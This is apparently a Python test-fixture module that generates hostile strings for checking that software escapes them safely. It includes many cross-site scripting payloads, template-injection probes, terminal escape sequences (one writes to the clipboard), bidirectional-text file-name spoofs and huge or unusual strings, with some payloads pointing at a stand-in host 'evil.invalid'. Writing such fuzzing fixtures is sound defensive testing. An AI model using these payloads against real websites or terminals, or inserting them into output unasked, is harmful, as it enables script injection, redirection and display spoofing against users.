"""Texts that are meant to run, to steer or to break what shows them; each names its kind."""

from __future__ import annotations

from itertools import product

#: Set by every script below that runs, and looked for in the page.
MARK = "window.pwned=1"

SCRIPTS = (
    f"<script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"</textarea></style></script><script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f'"><script>{MARK}</script>',
    f"'><script>{MARK}</script>",
    f'" autofocus onfocus={MARK} x="',
    f"' onmouseover={MARK} '",
    f"` onclick={MARK} `",
    f"javascript:{MARK}",
    f"<a href=javascript:{MARK}>x</a>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'>",
    f"<object data=data:text/html,<script>{MARK}</script>>",
    f"<math><mtext><script>{MARK}</script>",
    f"<details open ontoggle={MARK}>",
    f"<style>@import 'http://evil.invalid/x';</style><b onclick={MARK}>",
    f"<!--><script>{MARK}</script>-->",
    f"<![CDATA[<script>{MARK}</script>]]>",
    f"<meta http-equiv=refresh content=0;url=javascript:{MARK}>",
    f"<base href=http://evil.invalid/><script src=x>{MARK}</script>",
    f"<form action=http://evil.invalid><button autofocus onfocus={MARK}>",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"&#60;script&#62;{MARK}&#60;/script&#62;",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e",
    f"{{{{ 7*7 }}}}{{% for x in y %}} {MARK}",
    f"${{{MARK}}} #{{{MARK}}} <%= {MARK} %>",
    f"\ufeff<script>{MARK}</script>",
    f"<scr\x00ipt>{MARK}</scr\x00ipt>",
    f"<script\x0c>{MARK}</script\x0c>",
)
STEERING = (
    "\x1b[2J\x1b[H\x1b[31mred", "\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07", "\x9b31m",
    "\x1b]52;c;cHduZWQ=\x07", "nul\x00nul", "\x07\x08\x7f", "one\rtwo", "\u2028\u2029\x85\x0b\x0c",
    "safe\u202egnp.exe", "\u2066\u2067\u2068\u2069\u202a", "\u061c\u200e\u200f",
    "z\u200be\u200cr\u200do",
    "\U000e0001\U000e0041\U000e007f", "\ufff9a\ufffab\ufffb", "\ue000\U000f0000", "\ufdd0\uffff",
)  # fmt: skip
SHAPES = (
    "w" * 5_000, "w" * 2_000_000, "\n" * 5_000, " " * 5_000, "\t" * 3_000, "a" + "\u0301" * 3_000,
    "\ufdfd" * 300, "\U00012031" * 300, "﷽\u0332" * 99, "漢" * 3_000,
    "שלום " * 900, "👩‍👩‍👧‍👦" * 500,
)  # fmt: skip
KINDS = (*SCRIPTS, *STEERING, *SHAPES)


def many(count: int) -> list[str]:
    """Return that many different hostile texts: each kind, alone and wrapped in another."""
    small = [one[:400] for one in KINDS]
    mixed = (
        f"{a}{glue}{b}" for glue, a, b in product(("", " ", "\n", '"'), small, small) if a != b
    )
    return [*KINDS, *(text for text, _ in zip(mixed, range(count - len(KINDS)), strict=False))]
